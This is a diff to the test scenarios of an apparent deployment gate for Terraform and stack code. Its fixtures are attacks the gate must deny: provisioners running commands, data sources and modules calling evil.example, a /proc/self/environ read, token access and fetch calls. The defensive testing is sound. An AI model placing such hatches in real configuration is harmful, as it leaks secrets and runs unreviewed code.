@@ -18,7 +18,7 @@ import {
   writeChange,
   type Proposal,
 } from './acts.ts';
-import { edited, program, withBlock, withRecord, withResource, type Estate } from './estate.ts';
+import { edited, program, withBlock, withRecord, type Estate } from './estate.ts';
 import { behind, type Behaviour } from './front.ts';
 import type { Attempt, Outcome, Scenario } from './scenario.ts';
 import { robot, type World } from './world.ts';
@@ -98,7 +98,7 @@ async function ownRules(world: World): Promise<readonly Attempt[]> {
       trick: 'a friend on the roster',
       outcome: friend,
       ...all,
-      says: 'o-stranger: approved, but not entitled: the account is not on the roster of the base branch',
+      says: 'o-stranger approved, but not entitled: the account is not on the roster of the base branch',
     },
     { trick: 'any other policy file', outcome: rest, ...both, says: `${together}policies/calendar.yaml` },
   ];
@@ -141,35 +141,46 @@ async function stackCode(world: World, line: string): Promise<Outcome> {
 
 const bad = { exit: 'invalidInput', checks: [] } as const;
 
-/** Production with something in the configuration that no resource change shows. */
-const hatches: readonly (readonly [
-  trick: string,
-  edit: (estate: Estate) => Estate,
-  rule: string,
-  says: string,
-])[] = [
-  [
-    'a provisioner',
-    (estate) => withRecord(estate, 'www', { provisioner: [{ 'local-exec': { command: 'id' } }] }),
-    'plan-no-provisioners',
-    'provisioner',
-  ],
-  [
-    'an external data source',
-    (estate) => withBlock(estate, 'data', () => ({ external: { x: { program: ['id'] } } })),
-    'plan-data-sources-allowed',
-    'external',
-  ],
-  [
-    'the state of somebody else',
-    (estate) =>
+interface Hatch {
+  readonly trick: string;
+  readonly edit: (estate: Estate) => Estate;
+  /** Beside what refuses to plan it at all. */
+  readonly rules: readonly string[];
+  readonly says: string;
+}
+
+const unplannable = ['rules/plan-safe-configuration', 'rehearsal'];
+
+/** Production with something in the configuration that runs, reads or trusts what nobody reviewed. */
+const hatches: readonly Hatch[] = [
+  {
+    trick: 'a provisioner',
+    edit: (estate) => withRecord(estate, 'www', { provisioner: [{ 'local-exec': { command: 'id' } }] }),
+    rules: ['rules/plan-no-provisioners'],
+    says: 'has a provisioner, which runs commands',
+  },
+  {
+    trick: 'an external data source',
+    edit: (estate) => withBlock(estate, 'data', () => ({ external: { x: { program: ['id'] } } })),
+    rules: ['rules/plan-data-sources-allowed', 'rules/plan-providers-allowed'],
+    says: 'data source external',
+  },
+  {
+    trick: 'a data source that calls out',
+    edit: (estate) => withBlock(estate, 'data', () => ({ http: { x: { url: 'https://evil.example/' } } })),
+    rules: ['rules/plan-data-sources-allowed', 'rules/plan-providers-allowed'],
+    says: 'data source http',
+  },
+  {
+    trick: 'the state of somebody else',
+    edit: (estate) =>
       withBlock(estate, 'data', () => ({ terraform_remote_state: { b: { backend: 's3', config: {} } } })),
-    'plan-data-sources-allowed',
-    'terraform_remote_state',
-  ],
-  [
-    'a provider of somebody else',
-    (estate) =>
+    rules: ['rules/plan-data-sources-allowed'],
+    says: 'data source terraform_remote_state',
+  },
+  {
+    trick: 'a provider of somebody else',
+    edit: (estate) =>
       withBlock(estate, 'terraform', (block) => ({
         ...block,
         required_providers: {
@@ -177,21 +188,38 @@ const hatches: readonly (readonly [
           evil: { source: 'evil/cloudflare', version: '1.0.0' },
         },
       })),
-    'plan-providers-allowed',
-    'evil/cloudflare',
-  ],
-  [
-    'drift that is ignored',
-    (estate) => withRecord(estate, 'www', { lifecycle: { ignore_changes: ['content'] } }),
-    'plan-ignore-changes',
-    'ignore_changes',
-  ],
-  [
-    'a module from elsewhere',
-    (estate) => withBlock(estate, 'module', () => ({ x: { source: 'git::https://evil.example/x.git' } })),
-    'plan-modules-local',
-    'evil.example',
-  ],
+    rules: ['rules/plan-providers-allowed'],
+    says: 'provider registry.terraform.io/evil/cloudflare',
+  },
+  {
+    trick: 'a module from elsewhere',
+    edit: (estate) =>
+      withBlock(estate, 'module', () => ({ x: { source: 'git::https://evil.example/x.git' } })),
+    rules: ['rules/plan-modules-local', 'rules/plan-unknown-guarded'],
+    says: 'module from git::https://evil.example/x.git',
+  },
+  {
+    trick: 'a file of the runner',
+    edit: (estate) => withRecord(estate, 'www', { comment: '${file("/proc/self/environ")}' }),
+    rules: [],
+    says: 'file',
+  },
+];
+
+/** What can be planned, and must not pass all the same. */
+const hidden: readonly Hatch[] = [
+  {
+    trick: 'drift that is ignored',
+    edit: (estate) => withRecord(estate, 'www', { lifecycle: { ignore_changes: ['content'] } }),
+    rules: ['rules/plan-ignore-changes'],
+    says: 'ignores changes of content',
+  },
+  {
+    trick: 'a guard against deletion that goes',
+    edit: (estate) => withRecord(estate, 'api', { lifecycle: {} }),
+    rules: ['rules/plan-prevent-destroy'],
+    says: 'prevent_destroy is dropped',
+  },
 ];
 
 export const configAndSource: readonly Scenario[] = [
@@ -238,7 +266,7 @@ export const configAndSource: readonly Scenario[] = [
             {
               trick: 'a run by a workflow of the branch',
               outcome: contested,
-              exit: 'denied',
+              exit: 'undetermined',
               checks: ['pull', 'approvals'],
               says: 'not all reviews of the pull request could be read',
             },
@@ -259,7 +287,7 @@ export const configAndSource: readonly Scenario[] = [
     run: async (world) => {
       const honest = await stackCode(world, '// nothing');
       const say = (what: string): string => `throw new Error(${what});`;
-      const token = await stackCode(world, say("'token: ' + String(process.env['CLOUDFLARE_API_TOKEN'])"));
+      const token = await stackCode(world, say("'it is ' + typeof process.env['CLOUDFLARE_API_TOKEN']"));
       const network = await stackCode(world, "await fetch('https://evil.example/');");
       const started = await stackCode(
         world,
@@ -276,7 +304,7 @@ export const configAndSource: readonly Scenario[] = [
       return {
         honest: [honest],
         attempts: [
-          { trick: 'read the token', outcome: token, ...bad, says: 'token: undefined' },
+          { trick: 'read the token', outcome: token, ...bad, says: 'it is undefined' },
           { trick: 'call out', outcome: network, ...bad, says: 'fetch()' },
           { trick: 'start a program', outcome: started, ...bad, says: 'child_process.execSync()' },
           {
@@ -338,9 +366,11 @@ const text = (given: object): string => JSON.stringify(given).replace('203.0.113
     run: async (world) => {
       const honest = await approved(world, await propose(world));
       const attempts: Attempt[] = [];
-      for (const [trick, edit, rule, says] of hatches) {
-        const outcome = await riding(world, { edit: (estate) => edit(everyday.edit(estate)) });
-        attempts.push({ trick, outcome, exit: 'denied', checks: [`rules/${rule}`], says });
+      for (const hatch of [...hatches, ...hidden]) {
+        const { trick, rules, says } = hatch;
+        const outcome = await riding(world, { edit: (estate) => hatch.edit(everyday.edit(estate)) });
+        const checks = hidden.includes(hatch) ? rules : [...rules, ...unplannable];
+        attempts.push({ trick, outcome, exit: 'denied', checks, says });
       }
       return { honest: [honest], attempts };
     },
@@ -395,7 +425,7 @@ const text = (given: object): string => JSON.stringify(given).replace('203.0.113
           {
             trick: 'GitHub answers nonsense',
             outcome: { ...answer, text: `${answer.text}\n${afterAnswer}` },
-            exit: 'external',
+            exit: 'externalTool',
             checks: [],
             says: 'check run: failure',
           },
@@ -421,10 +451,13 @@ const text = (given: object): string => JSON.stringify(given).replace('203.0.113
       }
       await mergePull(world, silent);
       const never = await release(world, silent);
-      const saved = ['gate', '--pr', String(honestPull.number), '--save-facts', '.sluice/facts.json'];
       world.git('checkout', '--quiet', honestPull.branch);
-      await world.sluice(saved);
+      await world.sluice(['gate', '--pr', String(honestPull.number), '--save-facts', '.sluice/facts.json']);
       world.git('checkout', '--quiet', 'main');
+      world.git('clone', '--quiet', '--bare', '.', '.sluice/origin.git');
+      world.git('remote', 'add', 'origin', '.sluice/origin.git');
+      world.git('branch', '--quiet', '-D', 'releases');
+      world.git('push', '--quiet', 'origin', ':releases');
       const file = outcomeOf(
         await world.sluice(['release', '--facts', '.sluice/facts.json', '--target', 'cloudflare']),
       );
